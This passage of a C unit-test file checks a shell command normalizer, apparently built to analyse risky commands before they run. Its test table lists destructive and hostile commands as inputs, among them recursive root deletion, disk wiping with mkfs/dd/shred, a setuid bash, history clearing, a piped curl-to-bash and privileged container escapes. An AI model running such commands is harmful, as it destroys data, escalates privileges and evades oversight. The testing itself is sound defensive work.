    {"ssh no command",
     "ssh -p 2222 host", 0,
     "ssh -p=2222 :: host"},
    {"sshpass",
     "sshpass -p pw ssh host ls", 0,
     "ssh :: host ls\nsshpass -p=pw :: ssh host ls\nls"},
    {"control bytes replaced",
     "echo a\001b\006c", 0,
     "echo :: a\032b\032c"},
    {"invalid utf8",
     "echo \377\376 \303(", 0,
     "echo :: \377\376 \303 ("},
    {"utf8 kept",
     "echo h\303\251llo", 0,
     "echo :: h\303\251llo"},
    {"CRLF line",
     "rm -rf /\r\nls\r\n", 0,
     "rm -f -r :: /\nls"},
    {"self marker text not special",
     "echo $(\001)", 0,
     "echo :: $(...)\n\032"},
    {"literal dots substitution text",
     "eval 'echo $(...)'", 0,
     "eval :: 'echo $(...)'\necho :: $(...)\n..."},
    {"ssh remote flags are args",
     "ssh -t user@host sudo rm -rf /", 0,
     "ssh -t :: user@host sudo rm -rf /\nrm -f -r :: /\nsudo :: rm -rf /"},
    {"glob arg is kept",
     "rm -rf /*", 0,
     "rm -f -r :: /*"},
    {"brace expansion word",
     "rm -rf /{etc,usr}", 0,
     "rm -f -r :: /{etc,usr}"},
    {"extglob pattern one word",
     "rm !(keep)", 0,
     "rm :: !(keep)"},
    {"redirect without target dropped",
     "echo x >", 0,
     "echo :: x"},
    {"function name via keyword then call",
     "function rmall { rm -rf /; }; rmall", 0,
     "rm -f -r :: /\nrmall"},
    {"eval nested eval",
     "eval eval rm x", 0,
     "eval :: eval rm x\neval :: rm x\nrm :: x"},
    {"bash -c in substitution",
     "echo $(bash -c 'rm x')", 0,
     "echo :: $(...)\nbash -c :: 'rm x'\nrm :: x"},
    {"sudo bash -c",
     "sudo bash -c 'rm -rf /'", 0,
     "bash -c :: 'rm -rf /'\nsudo :: bash -c 'rm -rf /'\nrm -f -r :: /"},
    {"sudo sh -c with redirect",
     "sudo sh -c 'echo x > /etc/hosts'", 0,
     "sh -c :: 'echo x > /etc/hosts'\nsudo :: sh -c 'echo x > /etc/hosts'\necho :: x >/etc/hosts"},
    {"nohup sh -c background",
     "nohup sh -c 'rm x' &", 0,
     "sh -c :: 'rm x'\nnohup :: sh -c 'rm x'\nrm :: x"},
    {"xargs sh -c",
     "ls | xargs -I{} sh -c 'rm {}'", 0,
     "ls | xargs -I={} :: sh -c 'rm {}'\nsh -c :: 'rm {}'\nrm :: {}"},
    {"find exec bash -c",
     "find . -exec bash -c 'rm \"$0\"' {} \\;", 0,
     "find -exec -exec=bash :: .\nbash -c :: 'rm \"$0\"' {}\nrm :: $0"},
    {"quoted keyword is a command",
     "'if' x", 0,
     "if :: x"},
    {"then without if",
     "then rm x", 0,
     "rm :: x"},
    {"case esac nested",
     "case a in a) case b in b) rm x;; esac;; esac; ls", 0,
     "rm :: x\nls"},
    {"subshell unterminated",
     "(rm x", 0,
     "rm :: x"},
    {"substitution unterminated",
     "echo $(rm x", 0,
     "echo :: $(...)\nrm :: x"},
    {"backtick unterminated",
     "echo `rm x", 0,
     "echo :: $(...)\nrm :: x"},
    {"brace param unterminated",
     "echo ${x", 0,
     "echo :: $x"},
    {"stray close paren",
     "ls ) rm x", 0,
     "ls\nrm :: x"},
    {"stray close brace",
     "} ls", 0,
     "ls"},
    {"pipe at end",
     "ls |", 0,
     "ls"},
    {"pipe newline continues",
     "ls |\ngrep x", 0,
     "ls | grep :: x"},
    {"and newline continues",
     "ls &&\nrm x", 0,
     "ls\nrm :: x"},
    {"many separators",
     "a;b&c&&d||e|f", 0,
     "a\nb\nc\nd\ne | f"},
    {"wrapper flags sorted",
     "sudo -E -H -u root rm x", 0,
     "rm :: x\nsudo -E -H -u=root :: rm x"},
    {"env -i with assignments",
     "env -i PATH=/bin A=b sh -c 'rm x'", 0,
     "sh -c :: 'rm x'\nenv -i :: PATH=/bin A=b sh -c 'rm x'\nrm :: x"},
    {"timeout kill after",
     "timeout -k 5 10 sudo rm x", 0,
     "rm :: x\ntimeout -k=5 :: 10 sudo rm x\nsudo :: rm x"},
    {"double escaped quote prog",
     "\"r\"'m' -rf /", 0,
     "rm -f -r :: /"},
    {"escaped dash flag",
     "rm \\-rf /", 0,
     "rm -f -r :: /"},
    {"dollar single quote flag",
     "rm $'-rf' /", 0,
     "rm -f -r :: /"},
    {"path in arg with dotdot chain",
     "rm -rf /etc/../usr/./../", 0,
     "rm -f -r :: /"},
    {"dotdot in tilde beyond",
     "rm -rf ~/../..", 0,
     "rm -f -r :: ~/../.."},
    {"double slash inside relative dot",
     "cat .//x", 0,
     "cat :: ./x"},
    {"at sign var",
     "rm \"$@\"", 0,
     "rm :: $@"},
    {"positional prog",
     "$1 -rf /", 0,
     "$? -f -r :: /"},
    {"glob question in arg",
     "ls a?c", 0,
     "ls :: a?c"},
    {"tilde prog",
     "~/bin/tool -x", 0,
     "tool -x"},
    {"long single dash find path",
     "find / -path '*/x/*' -prune -o -print", 0,
     "find -o -path=*/x/* -print -prune :: /"},
    {"terraform destroy",
     "terraform destroy -target=aws_instance.x -auto-approve", 0,
     "terraform -auto-approve -target=aws_instance.x :: destroy"},
    {"git -c with alias exec",
     "git -c alias.x='!rm -rf /' x", 0,
     "git '-c=alias.x=!rm -rf /' :: x"},
    {"kubectl long namespace",
     "kubectl delete ns --namespace kube-system x", 0,
     "kubectl --namespace=kube-system :: delete ns x"},
    {"docker privileged mount",
     "docker run --privileged -v /:/mnt alpine chroot /mnt sh", 0,
     "docker --privileged -v=/:/mnt :: run alpine chroot /mnt sh"},
    {"chmod setuid",
     "chmod u+s /bin/bash", 0,
     "chmod :: u+s /bin/bash"},
    {"chmod minus mode",
     "chmod -x f", 0,
     "chmod -x :: f"},
    {"crontab remove",
     "crontab -r", 0,
     "crontab -r"},
    {"mkfs",
     "mkfs.ext4 /dev/sda1", 0,
     "mkfs.ext4 :: /dev/sda1"},
    {"dd of device",
     "dd if=/dev/urandom of=/dev/nvme0n1", 0,
     "dd :: if=/dev/urandom of=/dev/nvme0n1"},
    {"shred device",
     "shred -n 3 -z /dev/sda", 0,
     "shred -n=3 -z :: /dev/sda"},
    {"iptables flush",
     "iptables -F", 0,
     "iptables -F"},
    {"iptables cluster",
     "iptables -t nat -nvL", 0,
     "iptables -L -n -t=nat -v"},
    {"history clear",
     "history -c", 0,
     "history -c"},
    {"export assignment",
     "export PATH=/tmp:$PATH", 0,
     "export :: PATH=/tmp:$PATH"},
    {"unset",
     "unset HISTFILE", 0,
     "unset :: HISTFILE"},
    {"alias",
     "alias ls='rm -rf /'", 0,
     "alias :: 'ls=rm -rf /'"},
    {"source",
     "source ~/.bashrc", 0,
     "source :: ~/.bashrc"},
    {"dot source",
     ". ./env.sh", 0,
     ". :: ./env.sh"},
    {"set -e",
     "set -euo pipefail", 0,
     "set -e -o -u :: pipefail"},
    {"redirect fd number only word",
     "echo 2 > f", 0,
     "echo :: 2 >f"},
    {"digits then word is arg",
     "echo 2x>f", 0,
     "echo :: 2x >f"},
    {"process subst in input redirect",
     "bash < <(curl x)", 0,
     "bash <<(...)\ncurl :: x"},
    {"heredoc with dash delim",
     "bash <<-'END'\n\trm -rf /\n\tEND", 0,
     "bash\nrm -f -r :: /"},
    {"heredoc delimiter quoted partly",
     "sh <<E\"O\"F\nrm x\nEOF", 0,
     "sh\nrm :: x"},
    {"heredoc in substitution",
     "x=$(cat <<EOF\nhi\nEOF\n)", 0,
     "cat"},
    {"empty heredoc delimiter",
     "cat <<''\n\nls", 0,
     "cat\nls"},
    /* A word that begins with a group: the NAME after it still makes NAME=
     * an assignment (the lexer checks NAME= from there, not from the '('). */
    {"assignment after a leading group",
     "k=$$(ls)g=1 rm y", 0,
     "rm :: y"},
    {"no name after a leading group",
     "k=$$(ls)=1 rm y", 0,
     "$? :: rm y"},
    {"not a name after a leading group",
     "k=$$(ls)-g=1 rm y", 0,
     "$? :: rm y"},
};

static void test_table(void **state)
{
    (void)state;
    size_t ncases = sizeof cases / sizeof cases[0], bad = 0;
    assert_true(ncases >= 200);
    for (size_t i = 0; i < ncases; i++) {
        size_t len = cases[i].len ? cases[i].len : strlen(cases[i].in);
        int rc = rt_norm_run(&norm, cases[i].in, len);
        const char *got = render_all(&norm);
        if (rc != CMDAI_OK || strcmp(got, cases[i].want) != 0) {
            print_error("case \"%s\": rc=%d\n--- want\n%s\n--- got\n%s\n", cases[i].name, rc, cases[i].want, got);
            bad++;
        }
    }
    if (bad)
        fail_msg("%zu of %zu cases differ", bad, ncases);
}

/* The same input always gives the same bytes. */
static void test_deterministic(void **state)
{
    (void)state;
    static rt_norm other;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        size_t len = cases[i].len ? cases[i].len : strlen(cases[i].in);
        rt_norm_run(&norm, cases[i].in, len);
        rt_norm_run(&other, cases[i].in, len);
        assert_int_equal(norm.len, other.len);
        assert_int_equal(norm.nunits, other.nunits);
        assert_memory_equal(norm.buf, other.buf, norm.len);
    }
}

static void expect_bytes(const char *in, const char *want, size_t wlen)
{
    assert_int_equal(rt_norm_run(&norm, in, strlen(in)), CMDAI_OK);
    assert_int_equal(norm.nunits, 1);
    assert_int_equal(norm.unit_end[0], wlen);
    assert_int_equal(norm.len, wlen);
    assert_memory_equal(norm.buf, want, wlen);
}

#define BYTES(in, lit) expect_bytes(in, lit, sizeof(lit) - 1)

static void test_canonical_bytes(void **state)
{
    (void)state;
    BYTES("rm -rf /x", "\001rm\003/x\002-f\002-r\006"); /* args before flags */
    BYTES("echo hi >/dev/sda", "\001echo\003hi\004>\005/dev/sda\006");
    BYTES("$X -f", "\001\007\002-f\006");
    BYTES("a | b", "\001a\006\001b\006");
    BYTES("echo a\001b", "\001echo\003a\032b\006");
}

static void test_unit_layout(void **state)
{
    (void)state;
    const char in[] = "sudo rm -rf -- /x; ls | wc";
    assert_int_equal(rt_norm_run(&norm, in, strlen(in)), CMDAI_OK);
    assert_int_equal(norm.nunits, 3);
    assert_int_equal(norm.unit_end[2], norm.len);
    for (uint32_t u = 1; u < norm.nunits; u++)
        assert_true(norm.unit_end[u - 1] < norm.unit_end[u]);
    for (uint32_t u = 0; u < norm.nunits; u++) {
        size_t s = u ? norm.unit_end[u - 1] : 0;
        assert_int_equal(norm.buf[s], RT_C_CMD);
        assert_int_equal(norm.buf[norm.unit_end[u] - 1], RT_C_END);
    }
    char out[64];
    rt_norm_render(&norm, 0, out, sizeof out);
    assert_string_equal(out, "rm -f -r :: /x");
    rt_norm_render(&norm, 1, out, sizeof out);
    assert_string_equal(out, "sudo :: rm -rf -- /x");
}

static void test_render_bounds(void **state)
{
    (void)state;
    char out[8];
    assert_int_equal(rt_norm_run(&norm, "rm -rf /etc", 11), CMDAI_OK);
    size_t need = rt_norm_render(&norm, 0, out, sizeof out);
    assert_int_equal(need, strlen("rm -f -r :: /etc"));
    assert_string_equal(out, "rm -f -");
    assert_int_equal(rt_norm_render(&norm, 0, NULL, 0), need);
    assert_int_equal(rt_norm_render(&norm, 7, out, sizeof out), 0);
    assert_string_equal(out, "");
}

static void test_too_long(void **state)
{
    (void)state;
    memset(big, ' ', sizeof big);
    memcpy(big, "ls", 2);
    assert_int_equal(rt_norm_run(&norm, big, CMDAI_MAX_COMMAND), CMDAI_OK);
    assert_int_equal(norm.nunits, 1);
    assert_int_equal(rt_norm_run(&norm, big, CMDAI_MAX_COMMAND + 1), CMDAI_E_TOO_LONG);
    assert_int_equal(norm.nunits, 0);
    assert_int_equal(norm.err_offset, CMDAI_MAX_COMMAND);
}

/* Append s to big at *o. */
static void app(size_t *o, const char *s)
{
    size_t l = strlen(s);
    memcpy(big + *o, s, l);
    *o += l;
}

/* n nested copies of open/close around "rm x". */
static size_t nest(int n, const char *open, const char *close)
{
    size_t o = 0;
    for (int i = 0; i < n; i++)
        app(&o, open);
    app(&o, "rm x");
    for (int i = 0; i < n; i++)
        app(&o, close);
    return o;
}

static void test_too_deep(void **state)
{
    (void)state;
    static const struct { const char *open, *close; } forms[] = {
        {"echo $(", ")"}, {"( ", " )"}, {"{ ", "; }"}, {"sudo ", ""}, {"eval ", ""}, {"echo <(", ")"},
    };
    for (size_t f = 0; f < sizeof forms / sizeof forms[0]; f++) {
        size_t l = nest(CMDAI_MAX_DEPTH, forms[f].open, forms[f].close);
        assert_int_equal(rt_norm_run(&norm, big, l), CMDAI_OK);
        assert_true(norm.nunits >= 1);
        l = nest(CMDAI_MAX_DEPTH + 1, forms[f].open, forms[f].close);
        assert_int_equal(rt_norm_run(&norm, big, l), CMDAI_E_TOO_DEEP);
        assert_true(norm.err_offset <= l);
        for (uint32_t u = 0; u < norm.nunits; u++) /* what was written stays valid */
            assert_int_equal(norm.buf[norm.unit_end[u] - 1], RT_C_END);
    }
    /* bash -c strings nest through quoting */
    const char *deep = "bash -c \"bash -c 'bash -c \\\"bash -c x\\\"'\"";
    assert_int_equal(rt_norm_run(&norm, deep, strlen(deep)), CMDAI_OK);
    assert_int_equal(norm.nunits, 5);
    /* a long flat script is not deep */
    size_t o = 0;
    for (int i = 0; i < 500; i++)
        app(&o, "echo $(id); ");
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_OK);
    assert_int_equal(norm.nunits, 1000);
}

static void test_too_complex(void **state)
{
    (void)state;
    size_t o = 0;
    for (int i = 0; i < (int)RT_NORM_MAX_UNITS + 10; i++)
        app(&o, "a;");
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_E_TOO_COMPLEX);
    assert_int_equal(norm.nunits, RT_NORM_MAX_UNITS);
    assert_string_equal(render_all(&norm) + 2 * (RT_NORM_MAX_UNITS - 1), "a");

    o = 0;
    app(&o, "echo");
    for (int i = 0; i < (int)RT_NORM_STAGE_TOKS + 5; i++)
        app(&o, " x");
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_E_TOO_COMPLEX);

    /* The documented limit is the real one: a simple command of exactly
     * RT_NORM_STAGE_TOKS words (flags and args mixed, under a wrapper) is
     * analysed, one more word is refused (it used to stop at 341). */
    for (int extra = 0; extra <= 1; extra++) {
        o = 0;
        app(&o, "sudo rm");
        for (int i = 3; i < (int)RT_NORM_STAGE_TOKS + extra; i++)
            app(&o, i % 3 ? " x" : " -v");
        app(&o, " /");
        int rc = rt_norm_run(&norm, big, o);
        assert_int_equal(rc, extra ? CMDAI_E_TOO_COMPLEX : CMDAI_OK);
        if (!extra) {
            const char *r = render_all(&norm);
            assert_true(strncmp(r, "rm -v :: x x ", 13) == 0);
            assert_true(strlen(r) > 3 && !strcmp(r + strlen(r) - 2, " /"));
        }
    }

    /* one word larger than the scratch space */
    o = 0;
    app(&o, "echo ");
    memset(big + o, 'x', RT_NORM_SCRATCH + 10);
    o += RT_NORM_SCRATCH + 10;
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_E_TOO_COMPLEX);

    /* output larger than buf: many stages of medium words */
    o = 0;
    for (int i = 0; i < 400; i++) {
        app(&o, "echo ");
        memset(big + o, 'y', 200);
        o += 200;
        big[o++] = ';';
    }
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_E_TOO_COMPLEX);
    assert_true(norm.nunits > 0 && norm.len <= RT_NORM_BUF);
    assert_int_equal(norm.unit_end[norm.nunits - 1], norm.len);

    /* too many heredocs on one line */
    o = 0;
    app(&o, "cat");
    for (int i = 0; i < 20; i++) {
        char d[16];
        snprintf(d, sizeof d, " <<E%d", i);
        app(&o, d);
    }
    assert_int_equal(rt_norm_run(&norm, big, o), CMDAI_E_TOO_COMPLEX);
}

/* Odd bytes are word bytes; nothing reads outside the input. */
static void test_arbitrary_bytes(void **state)
{
    (void)state;
    unsigned char b[512];
    for (int i = 0; i < 256; i++)
        b[i] = (unsigned char)i, b[511 - i] = (unsigned char)i;
    for (size_t l = 0; l <= sizeof b; l++) {
        int rc = rt_norm_run(&norm, (const char *)b, l);
        assert_true(rc == CMDAI_OK || rc == CMDAI_E_TOO_COMPLEX || (rc == CMDAI_E_NUL && memchr(b, 0, l)));
        for (size_t i = 0; i < norm.len; i++) /* separators only where the encoding puts them */
            if (norm.buf[i] < RT_C_MIN_TOKEN)
                assert_true(norm.buf[i] >= RT_C_CMD && norm.buf[i] <= RT_C_DYN);
    }
    assert_int_equal(rt_norm_run(&norm, NULL, 0), CMDAI_OK);
    assert_int_equal(norm.nunits, 0);
    /* A NUL anywhere is refused with its offset: "rm -rf \0/" must not be
     * judged as "rm -rf" when a shell would run "rm -rf /". */
    static const char nul[] = "rm -rf \000/";
    assert_int_equal(rt_norm_run(&norm, nul, sizeof nul - 1), CMDAI_E_NUL);
    assert_int_equal(norm.err_offset, 7);
    assert_int_equal(norm.nunits, 0);
}

static void test_opts_table(void **state)
{
    (void)state;
    size_t n;
    const rt_prog_opts *t = rt_opts_table(&n);
    assert_true(n > 50);
    for (size_t i = 1; i < n; i++) /* note [opts table order] in opts.c */
        if (strcmp(t[i - 1].prog, t[i].prog) >= 0)
            fail_msg("opts table out of order at %s, %s", t[i - 1].prog, t[i].prog);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(t[i].plen, strlen(t[i].prog));
        assert_ptr_equal(rt_opts_find(t[i].prog, strlen(t[i].prog)), &t[i]);
        /* one byte more or less, or a byte past the table's last name, is not a program */
        assert_ptr_not_equal(rt_opts_find(t[i].prog, strlen(t[i].prog) - 1), &t[i]);
    }
    assert_null(rt_opts_find("", 0));
    assert_null(rt_opts_find("\xff", 1));
    assert_null(rt_opts_find("mysqlx", 6));
    assert_null(rt_opts_find("Tar", 3));
    assert_null(rt_opts_find("nosuchprog", 10));
    assert_null(rt_opts_find("ta", 2));
    assert_null(rt_opts_find("tarx", 4));
    assert_null(rt_opts_find(NULL, 0));
    const rt_prog_opts *tar = rt_opts_find("tar", 3);
    assert_non_null(tar);
    assert_true(rt_opts_takes_value(tar, "-C", 2));
    assert_true(rt_opts_takes_value(tar, "-f", 2));
    assert_false(rt_opts_takes_value(tar, "-x", 2));
    assert_true(rt_opts_takes_value(tar, "--directory", 11));
    assert_false(rt_opts_takes_value(tar, "--dir", 5));
    assert_false(rt_opts_takes_value(tar, "C", 1));
    assert_false(rt_opts_takes_value(NULL, "-C", 2));
    const rt_prog_opts *find = rt_opts_find("find", 4);
    assert_true(find->flags & RT_OPT_LONG_SINGLE_DASH);
    assert_true(rt_opts_takes_value(find, "-name", 5));
    assert_false(rt_opts_takes_value(find, "-delete", 7));
    assert_true(rt_opts_find("terraform", 9)->flags & RT_OPT_LONG_SINGLE_DASH);
    assert_true(rt_opts_find("echo", 4)->flags & RT_OPT_NO_FLAGS);
    /* attached-only values: the flag on the entry and the letter both count */
    static const char *const attached[] = {"mariadb", "mysql", "mysqldump"};
    for (size_t i = 0; i < sizeof attached / sizeof attached[0]; i++) {
        const rt_prog_opts *po = rt_opts_find(attached[i], strlen(attached[i]));
        assert_non_null(po);
        assert_true(po->flags & RT_OPT_ATTACHED);
        assert_true(rt_opts_attached_value(po, 'p'));
        assert_false(rt_opts_attached_value(po, 'u'));
    }
    assert_false(rt_opts_takes_value(rt_opts_find("docker", 6), "-f", 2));
    assert_true(rt_opts_takes_value(rt_opts_find("curl", 4), "-o", 2));
    assert_false(rt_opts_takes_value(rt_opts_find("curl", 4), "-O", 2));
}

static int has_line(const char *all, const char *line)
{
    size_t n = strlen(line);
    for (const char *l = all; l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL)
        if (strncmp(l, line, n) == 0 && (l[n] == '\n' || l[n] == '\0'))
            return 1;
    return 0;
}

/* Every program the normalizer looks through (shell_cmd.c specials[]) is
 * found by its name, and only by its exact name: "rm x" is judged as a unit
 * of its own. */
static void test_specials(void **state)
{
    (void)state;
    static const char *const runs[] = {
        "ash -c 'rm x'", "bash -c 'rm x'", "builtin rm x", "busybox rm x", "chroot / rm x", "command rm x",
        "csh -c 'rm x'", "dash -c 'rm x'", "doas rm x", "env rm x", "eval rm x", "exec rm x",
        "find . -exec rm x ';'", "fish -c 'rm x'", "ionice rm x", "ksh -c 'rm x'", "ltrace rm x",
        "mksh -c 'rm x'", "nice rm x", "nohup rm x", "setsid rm x", "sh -c 'rm x'", "ssh host rm x",
        "sshpass rm x", "stdbuf rm x", "strace rm x", "su -c 'rm x'", "sudo rm x", "tcsh -c 'rm x'",
        "time rm x", "timeout 5 rm x", "torsocks rm x", "unbuffer rm x", "watch rm x", "xargs rm x",
        "zsh -c 'rm x'", "/usr/bin/sudo rm x",
    };
    static const char *const not_runs[] = {
        "a rm x", "as -c 'rm x'", "bashx -c 'rm x'", "Sudo rm x", "sud rm x", "sudoo rm x", "zs -c 'rm x'",
        "zshh -c 'rm x'", "torsockss rm x", "unbuffe rm x", "s rm x", "ssh",
    };
    for (size_t i = 0; i < sizeof runs / sizeof runs[0]; i++) {
        assert_int_equal(rt_norm_run(&norm, runs[i], strlen(runs[i])), CMDAI_OK);
        if (!has_line(render_all(&norm), "rm :: x"))
            fail_msg("%s: no unit rm :: x in\n%s", runs[i], render_all(&norm));
    }
    for (size_t i = 0; i < sizeof not_runs / sizeof not_runs[0]; i++) {
        assert_int_equal(rt_norm_run(&norm, not_runs[i], strlen(not_runs[i])), CMDAI_OK);
        if (has_line(render_all(&norm), "rm :: x"))
            fail_msg("%s: unexpected unit rm :: x in\n%s", not_runs[i], render_all(&norm));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_table),          cmocka_unit_test(test_deterministic),
        cmocka_unit_test(test_canonical_bytes), cmocka_unit_test(test_unit_layout),
        cmocka_unit_test(test_render_bounds),  cmocka_unit_test(test_too_long),
        cmocka_unit_test(test_too_deep),       cmocka_unit_test(test_too_complex),
        cmocka_unit_test(test_arbitrary_bytes), cmocka_unit_test(test_opts_table),
        cmocka_unit_test(test_specials),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
